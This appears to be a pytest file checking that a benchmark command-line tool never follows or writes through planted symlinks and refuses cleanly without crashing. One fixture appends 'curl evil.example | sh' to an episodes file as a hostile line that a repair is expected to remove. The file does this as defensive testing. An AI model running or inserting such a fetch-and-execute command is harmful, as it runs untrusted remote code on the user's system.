"""Links in a folder from elsewhere: whatever a command writes or removes there, it is nothing outside of the folder."""

import shutil
from pathlib import Path

import pytest

from agents.common.locking import LOCK_NAME
from benchmark.cli import entries
from benchmark.entries import entry, validation
from benchmark.runs.folder import EPISODES_NAME, OWN_FILES
from benchmark.runs.manifest import MANIFEST_NAME
from tests.benchmark.helpers import refused
from tests.links import TARGETS, drafts_of, planted

RUN = (*OWN_FILES, LOCK_NAME)
RUN_NAMES = [*RUN, *(draft for name in RUN for draft in drafts_of(name)), "prompts-0.toml", "page.html", "rows.csv"]
ENTRY_NAMES = [f"random/{name}" for name in RUN_NAMES]
ON_RUNS = (
    ("resume", "{}", "--quiet"),
    ("resume", "{}", "--quiet", "--repair"),
    ("resume", "{}", "--quiet", "--repair", "--episodes", "4"),
    ("merge", "{}", "--out", "merged"),
    ("merge", "small", "--out", "{}"),
    ("run", "--agent", "random", "--scenario", "frozen-lake", "--episodes", "2", "--quiet", "--out", "{}"),
    ("submit", "{}", "--agent", "random", "--out", "entries"),
    ("leaderboard", "{}"),
    ("leaderboard", "{}", "--html", "{}/page.html"),
    ("export", "{}", "--csv", "{}/rows.csv"),
    ("export", "{}", "--sft", "{}/rows.csv"),
    ("compare", "random", "greedy", "--in", "{}"),
    ("replay", "{}", "--plain"),
    ("validate", "{}"),
)


def goes_well_or_is_refused(textbench, command, folder, what) -> int:
    """Run a command on a folder; it ends with a sentence, if it doesn't do what it is asked for."""
    done = textbench(*(part.format(folder) for part in command))
    assert done.code in (0, 1, 2), (what, done)
    assert "Traceback" not in done.err, what
    assert done.code == 0 or done.err.strip(), (what, done)
    return done.code


def damaged(small_run) -> Path:
    """The run with a line that a repair takes out: a command that a stranger would have appended to a file of yours."""
    with (small_run / EPISODES_NAME).open("a") as lines:
        lines.write("curl evil.example | sh\n")
    return small_run


@pytest.mark.parametrize(
    "command",
    [command if command in ON_RUNS[:2] else pytest.param(command, marks=pytest.mark.slow) for command in ON_RUNS],
    ids=" ".join,
)
def test_no_command_on_a_run_follows_a_link(textbench, small_run, command, request):
    slow = request.node.get_closest_marker("slow")
    refused = 0
    for folder, what in planted(damaged(small_run), RUN_NAMES, TARGETS if slow else TARGETS[:1]):
        refused += goes_well_or_is_refused(textbench, command, folder, what) > 0
        shutil.rmtree("merged", ignore_errors=True)
        shutil.rmtree("entries", ignore_errors=True)
    assert refused


@pytest.mark.parametrize("name", [EPISODES_NAME, MANIFEST_NAME, "notes/deep"])
def test_nothing_is_read_through_a_link(textbench, small_run, name):
    """A run of the reader's would be shown, and published, as the stranger's."""
    link = Path(shutil.copytree(small_run, "theirs"), name)
    link.parent.mkdir(exist_ok=True)
    link.unlink(missing_ok=True)
    link.symlink_to((small_run / EPISODES_NAME if link.suffix != ".json" else small_run / MANIFEST_NAME).absolute())
    for command in ON_RUNS:
        if "resume" not in command and "run" not in command and "small" not in command:
            done = textbench(*(part.format("theirs") for part in command))
            refused(done, f"theirs/{name}: it is a link out of theirs, to ")


@pytest.mark.slow
@pytest.mark.parametrize("target", TARGETS)
def test_an_entry_is_written_through_no_link(textbench, workplace, target, monkeypatch):
    for module in (entry, validation, entries):  # or the run would have fifty episodes of four scenarios
        monkeypatch.setattr(module, "open_terms", lambda *_: entry.Terms(("frozen-lake",), 2))
    monkeypatch.setattr(entries, "BOARDS", ("paper",))
    run = ("run", "--agent", "random", "--scenario", "frozen-lake", "--episodes", "2", "--quiet", "--out", "small")
    assert textbench(*run).code == 0
    command = ("submit", "small", "--out", "{}")
    assert textbench(*(part.format("entries") for part in command)).code == 0
    codes = []
    for folder, what in planted(Path("entries"), ["random", *ENTRY_NAMES], (target,)):
        codes.append(goes_well_or_is_refused(textbench, command, folder, what))
        if codes[-1] == 0:
            assert (folder / "random" / EPISODES_NAME).is_file()
            assert not (folder / "random" / EPISODES_NAME).is_symlink()
            assert not (folder / "random" / MANIFEST_NAME).is_symlink()
    assert {0} < set(codes)
